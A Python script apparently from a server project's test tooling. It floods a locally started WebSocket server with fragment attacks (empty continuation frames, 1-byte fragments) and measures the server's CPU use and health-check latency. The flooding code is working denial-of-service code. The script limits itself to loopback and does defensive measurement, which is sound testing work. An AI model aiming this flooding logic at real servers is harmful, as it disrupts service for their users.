#!/usr/bin/env python3
"""The fragment attacks of issue 11 against a server this starts, with the server's CPU and /healthz latency.

    .venv/bin/python scripts/attack_fragments.py                 every phase, 30 s each (about 5 minutes)
    .venv/bin/python scripts/attack_fragments.py --seconds 10 --phases quiet,empty
    .venv/bin/python scripts/attack_fragments.py --help

Loopback only, bounded in time: it starts ``realtime-server serve`` on a free 127.0.0.1 port (SQLite in
a temporary folder), runs each phase for ``--seconds``, and stops the server. During every phase a
prober asks ``GET /healthz`` ``--probes`` times, evenly spaced, and the server's CPU (user + system,
from /proc) is read at the phase's start and end. Phases:

- ``quiet``: nothing else runs (the reference);
- ``empty``: one socket with a valid EMPLOYEE token sends a text frame with FIN=0 and no payload, then
  1,000 empty continuation frames (6 KB) every 100 ms;
- ``onebyte``: one socket sends a legal 64 KiB message as 1-byte fragments, 1,460 bytes every 200 ms;
- ``both``: the two attacks at once, one socket each.

Each attack runs three ways: ``once`` (one socket; what happens after the server closes it is nothing),
``reconnect`` (the attacker opens a new socket each time one is closed, for the whole phase), and
``unlimited`` (the server is started with the fragment, rate and deadline limits out of the way, so the
attack runs its course and what is measured is the parser's own cost).
"""

from __future__ import annotations

import argparse
import os
import secrets
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from actors import Settings, issue_token  # noqa: E402

UNLIMITED = ["--max-message-fragments", "100000000", "--rate-limit-per-second", "1000000000", "--rate-limit-burst",
             "1000000000", "--rate-limit-strikes", "1000000000", "--message-timeout", "3600",
             "--heartbeat-timeout", "3600", "--heartbeat-interval", "1800"]
MASK = b"\x11\x22\x33\x44"


def frame(opcode: int, payload: bytes, fin: bool) -> bytes:
    head = bytes(((0x80 if fin else 0) | opcode, 0x80 | len(payload)))
    return head + MASK + bytes(b ^ MASK[i % 4] for i, b in enumerate(payload))


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


class Server:
    def __init__(self, work: Path, extra: list[str]) -> None:
        self.port = free_port()
        self.secret = secrets.token_urlsafe(48)
        self.log = open(work / f"server-{self.port}.log", "w")
        exe = Path(sys.executable).with_name("realtime-server")
        self.proc = subprocess.Popen([str(exe), "serve", "--host", "127.0.0.1", "--port", str(self.port),
                                      "--database-url", f"sqlite:///{work}/db-{self.port}.sqlite", "--data-dir",
                                      str(work), "--log-level", "WARNING", *extra],
                                     env={**os.environ, "JWT_SECRET": self.secret}, stdout=self.log,
                                     stderr=subprocess.STDOUT)
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            try:
                if self.get("/healthz") is not None:
                    return
            except OSError:
                time.sleep(0.1)
        raise SystemExit("the server did not start; see " + self.log.name)

    def token(self) -> str:
        return issue_token(Settings(jwt_secret=self.secret), "42", "EMPLOYEE", ttl=3600)

    def get(self, path: str) -> float | None:
        """Milliseconds for one GET on a fresh connection (None when the answer is not 200)."""
        start = time.perf_counter()
        with socket.create_connection(("127.0.0.1", self.port), timeout=30) as sock:
            sock.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".encode())
            answer = b""
            while chunk := sock.recv(4096):
                answer += chunk
        elapsed = (time.perf_counter() - start) * 1000
        return elapsed if answer.startswith(b"HTTP/1.1 200") else None

    def stop(self) -> None:
        self.proc.send_signal(signal.SIGTERM)
        try:
            self.proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        self.log.close()


def open_socket(server: Server) -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", server.port), timeout=10)
    sock.sendall((f"GET /ws?token={server.token()} HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\n"
                  "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
                  "Sec-WebSocket-Version: 13\r\n\r\n").encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = sock.recv(4096)
        if not chunk:
            raise OSError("closed during the handshake")
        head += chunk
    if not head.startswith(b"HTTP/1.1 101"):
        raise OSError(head.split(b"\r\n", 1)[0].decode())
    sock.setblocking(False)
    return sock


def closed_with(sock: socket.socket) -> tuple[bool, int | None]:
    """(ended, close code) from what the server sent so far (frames are read whole or not at all)."""
    try:
        data = sock.recv(65536)
    except BlockingIOError:
        return False, None
    except OSError:
        return True, None
    if not data:
        return True, None
    at = data.find(b"\x88")  # a close frame among CONNECTED and the rest
    while at != -1:
        if at + 3 < len(data) and data[at + 1] >= 2:
            return True, int.from_bytes(data[at + 2:at + 4], "big")
        at = data.find(b"\x88", at + 1)
    return False, None


class Attacker(threading.Thread):
    def __init__(self, server: Server, kind: str, reconnect: bool, until: float) -> None:
        super().__init__(daemon=True)
        self.server, self.kind, self.reconnect, self.until = server, kind, reconnect, until
        self.connections = 0
        self.frames = 0
        self.bytes = 0
        self.endings: dict[str, int] = {}

    def run(self) -> None:
        while time.monotonic() < self.until:
            try:
                sock = open_socket(self.server)
            except OSError as exc:
                self.endings[f"refused ({exc})"] = self.endings.get(f"refused ({exc})", 0) + 1
                time.sleep(0.1)
                continue
            self.connections += 1
            ending = self.attack(sock)
            self.endings[ending] = self.endings.get(ending, 0) + 1
            sock.close()
            if not self.reconnect:
                break

    def attack(self, sock: socket.socket) -> str:
        if self.kind == "empty":
            first, each, per_write, interval = frame(0x1, b"", False), frame(0x0, b"", False), 1000, 0.1
        else:
            first, each, per_write, interval = frame(0x1, b"x", False), frame(0x0, b"x", False), 1460 // 7, 0.2
        pending = first
        sent_in_message = 1
        while time.monotonic() < self.until:
            batch = pending + each * per_write
            pending = b""
            try:
                sock.setblocking(True)
                sock.sendall(batch)
                sock.setblocking(False)
            except OSError:
                return "reset while writing"
            self.frames += per_write + (1 if batch.startswith(first) else 0)
            self.bytes += len(batch)
            sent_in_message += per_write
            if self.kind == "onebyte" and sent_in_message >= 65536 - per_write:
                pending = first  # the message would be legal and whole at 65,536: start another
                sent_in_message = 1
            deadline = time.monotonic() + interval
            while time.monotonic() < deadline:
                ended, code = closed_with(sock)
                if ended:
                    return f"closed {code}" if code is not None else "closed without a close frame"
                time.sleep(0.01)
        return "still open at the end"


def phase(server: Server, name: str, kind: str | None, reconnect: bool, seconds: float, probes: int) -> dict[str, Any]:
    until = time.monotonic() + seconds
    kinds = ["empty", "onebyte"] if kind == "both" else [kind] if kind else []
    attackers = [Attacker(server, k, reconnect, until) for k in kinds]
    cpu_before, wall_before = cpu_seconds(server.proc.pid), time.monotonic()
    for attacker in attackers:
        attacker.start()
    latencies: list[float] = []
    failures = 0
    gap = seconds / probes
    for n in range(probes):
        wait = wall_before + n * gap - time.monotonic()
        if wait > 0:
            time.sleep(wait)
        elapsed = server.get("/healthz")
        if elapsed is None:
            failures += 1
        else:
            latencies.append(elapsed)
    remaining = until - time.monotonic()
    if remaining > 0:
        time.sleep(remaining)
    for attacker in attackers:
        attacker.join(timeout=30)
    endings: dict[str, int] = {}
    for attacker in attackers:
        for ending, count in attacker.endings.items():
            endings[ending] = endings.get(ending, 0) + count
    cpu = cpu_seconds(server.proc.pid) - cpu_before
    wall = time.monotonic() - wall_before
    latencies.sort()
    return {
        "phase": name, "cpu_percent": 100 * cpu / wall, "wall": wall,
        "p50": statistics.median(latencies) if latencies else None,
        "p99": latencies[min(len(latencies) - 1, int(0.99 * len(latencies)))] if latencies else None,
        "max": latencies[-1] if latencies else None, "probes": len(latencies), "failures": failures,
        "connections": sum(a.connections for a in attackers), "frames": sum(a.frames for a in attackers),
        "bytes": sum(a.bytes for a in attackers), "endings": endings,
    }


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seconds", type=float, default=30.0, help="length of each phase")
    parser.add_argument("--probes", type=int, default=200, help="/healthz requests per phase")
    parser.add_argument("--phases", default="quiet,empty,onebyte,both",
                        help="which of quiet, empty, onebyte, both (the two attacks at once)")
    parser.add_argument("--modes", default="once,reconnect,unlimited",
                        help="how each attack runs: once, reconnect, unlimited")
    args = parser.parse_args()
    wanted = [p.strip() for p in args.phases.split(",") if p.strip()]
    modes = [m.strip() for m in args.modes.split(",") if m.strip()]
    results: list[dict[str, Any]] = []
    with tempfile.TemporaryDirectory(prefix="attack-") as tmp:
        work = Path(tmp)
        server = Server(work, [])
        try:
            if "quiet" in wanted:
                results.append(phase(server, "quiet", None, False, args.seconds, args.probes))
            for kind in ("empty", "onebyte", "both"):
                for mode in ("once", "reconnect"):
                    if kind in wanted and mode in modes:
                        results.append(phase(server, f"{kind}, {mode}", kind, mode == "reconnect", args.seconds,
                                             args.probes))
        finally:
            server.stop()
        if "unlimited" in modes and any(k in wanted for k in ("empty", "onebyte", "both")):
            unlimited = Server(work, UNLIMITED)
            try:
                for kind in ("empty", "onebyte", "both"):
                    if kind in wanted:
                        results.append(phase(unlimited, f"{kind}, unlimited", kind, False, args.seconds, args.probes))
            finally:
                unlimited.stop()
    print(f"{'phase':<20} {'server CPU':>10} {'healthz p50':>12} {'p99':>8} {'max':>8} {'fail':>5} {'sockets':>8} "
          f"{'frames sent':>12}  how the sockets ended")
    for r in results:
        def ms(value: float | None) -> str:
            return f"{value:.1f}" if value is not None else "-"
        endings = ", ".join(f"{n}x {k}" for k, n in sorted(r["endings"].items()))
        print(f"{r['phase']:<20} {r['cpu_percent']:>9.1f}% {ms(r['p50']):>10}ms {ms(r['p99']):>6}ms "
              f"{ms(r['max']):>6}ms {r['failures']:>5} {r['connections']:>8} {r['frames']:>12}  {endings}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
